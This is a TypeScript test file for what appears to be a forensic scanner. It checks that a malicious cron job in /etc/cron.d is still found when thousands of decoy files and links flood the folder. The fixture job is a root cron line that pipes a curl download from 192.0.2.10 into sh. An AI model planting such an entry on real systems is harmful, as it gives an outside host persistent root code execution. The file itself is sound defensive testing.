/** One job among more files than anybody reads. */
import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
import { linkSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SourceLog } from '../../model/source-log.ts';
import { printableText } from '../../model/text.ts';
import { folderTarget } from '../../target/folder.ts';
import type { Target } from '../../target/port.ts';
import { endsIn, filesIn, foldersIn, mostFiles } from './entry.ts';
import { siftFolder } from './flooded-folder.ts';
import type { ReadContext } from './reading.ts';

const job = '* * * * * root curl -s http://192.0.2.10/x | sh\n';
const decoys = mostFiles + 2_000;
let root: string;
let folder: string;
let target: Target;
let log: SourceLog;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'demine-flood-'));
  folder = join(root, 'etc/cron.d');
  mkdirSync(folder, { recursive: true });
  mkdirSync(join(root, 'usr'));
  target = folderTarget(root);
  log = new SourceLog();
});
afterEach(async () => {
  await target.close();
  rmSync(root, { recursive: true });
});

const put = (name: string, content: string): void => writeFileSync(join(folder, name), content);
const found = (matches?: Parameters<typeof filesIn>[3]): readonly string[] => {
  const context: ReadContext = { target, log };
  return filesIn(context, 'linux.crontab', printableText('/etc/cron.d'), matches).map(({ name }) => name);
};
const times = (count: number, once: (index: number) => void): void => {
  for (let index = 0; index < count; index += 1) once(index);
};

describe('a job is read among', () => {
  const floods: Readonly<Record<string, (index: number) => void>> = {
    'empty files': (index) => put(`f${index}`, ''),
    'files that differ in a number': (index) => put(`f${index}`, `* * * * * root true ${index}\n`),
    'files that differ in words, of one size': (index) =>
      put(`f${index}`, `# ${index.toString(36).padStart(4, 'x').repeat(10)}\n`),
    'links to one file': (index) => {
      if (index === 0) put('f0', '* * * * * root true\n');
      else linkSync(join(folder, 'f0'), join(folder, `f${index}`));
    },
    'links that lead nowhere': (index) => symlinkSync(`gone${index}`, join(folder, `f${index}`)),
  };
  for (const [what, decoy] of Object.entries(floods)) {
    test(what, () => {
      times(decoys / 2, decoy);
      put('job', job);
      times(decoys / 2, (index) => decoy(index + decoys / 2));
      const names = found();
      expect(names).toContain('job');
      expect(names.length).toBeLessThanOrEqual(mostFiles);
      expect([...log.flooded]).toMatchObject([{ path: '/etc/cron.d', names: decoys + 1 }]);
    });
  }
});

test('a job that is a link to a file is read too', () => {
  times(decoys, (index) => put(`f${index}`, ''));
  writeFileSync(join(root, 'usr/job'), job);
  symlinkSync('/usr/job', join(folder, 'job'));
  expect(found()).toEqual(['job']);
});

test('names that nobody asks for do not stand before those that are asked for', () => {
  times(decoys, (index) => put(`f${index}`, `anything ${index}`));
  put('job.conf', 'x\n');
  expect(found((name) => name.endsWith('.conf'))).toEqual(['job.conf']);
});

test('what was not looked into is counted, and told', () => {
  // Each begins in its own way, and like a job: more than are kept.
  times(decoys, (index) =>
    put(`f${index}`, `curl ${index.toString(2).replaceAll('0', 'o').replaceAll('1', 'l')}\n`),
  );
  found();
  const [flood] = log.flooded;
  expect(flood?.unread).toBeGreaterThan(0);
  expect(log.listed.map(({ status, reason }) => `${status}: ${reason}`)).toContain(
    `truncated: ${decoys} names, ${mostFiles / 2} read, ${flood?.unread} not looked into`,
  );
});

test('of files that differ in a number few are read, and the others are counted', () => {
  times(decoys, (index) => put(`f${index}`, `* * * * * root /opt/app${index}/run\n`));
  const names = found();
  const [flood] = log.flooded;
  expect(names.length).toBeLessThan(100);
  expect(flood?.unread).toBe(decoys - names.length);
});

test('the same bytes again and links to nothing leave nothing unread', () => {
  times(decoys / 2, (index) => put(`f${index}`, '* * * * * root true\n'));
  times(decoys / 2, (index) => symlinkSync(`gone${index}`, join(folder, `l${index}`)));
  expect(found()).toHaveLength(1);
  expect([...log.flooded].map(({ unread }) => unread)).toEqual([0]);
});

test('what one artifact has sifted, the next one of the scan is told at once, under its own name', () => {
  times(decoys, (index) => put(`f${index}.conf`, `anything ${index}`));
  put('job.conf', job);
  const context: ReadContext = { target, log };
  const ask = (artifact: string) =>
    filesIn(context, artifact, printableText('/etc/cron.d'), endsIn('.conf')).map(({ name }) => String(name));
  const first = ask('linux.crontab');
  expect(first).toContain('job.conf');
  // Were the folder listed again, nothing would be there.
  rmSync(folder, { recursive: true });
  expect(new Set(ask('linux.incron'))).toEqual(new Set(first));
  expect(new Set(log.listed.map(({ artifact }) => artifact))).toEqual(
    new Set(['linux.crontab', 'linux.incron']),
  );
  // Another scan looks for itself.
  log = new SourceLog();
  expect(filesIn({ target, log }, 'linux.crontab', printableText('/etc/cron.d'), endsIn('.conf'))).toEqual(
    [],
  );
});

test('files do not stand before folders, and of too many folders the rest is counted', () => {
  times(mostFiles, (index) => put(`f${index}`, ''));
  mkdirSync(join(folder, 'd'));
  const path = printableText('/etc/cron.d');
  const found = foldersIn({ target, log }, 'linux.crontab', path);
  expect(found.map(({ name }) => String(name))).toEqual(['d']);
  times(4, (index) => mkdirSync(join(folder, `d${index}`)));
  const wanted = { kinds: 'folders', matches: () => true, most: 2 } as const;
  expect(siftFolder({ target, log }, path, mostFiles + 5, wanted)).toMatchObject({ unread: 3 });
});

test('a folder that holds no more than is read is no flood', () => {
  times(mostFiles, (index) => put(`f${index}`, ''));
  expect(found()).toHaveLength(mostFiles);
  expect([...log.flooded]).toEqual([]);
});
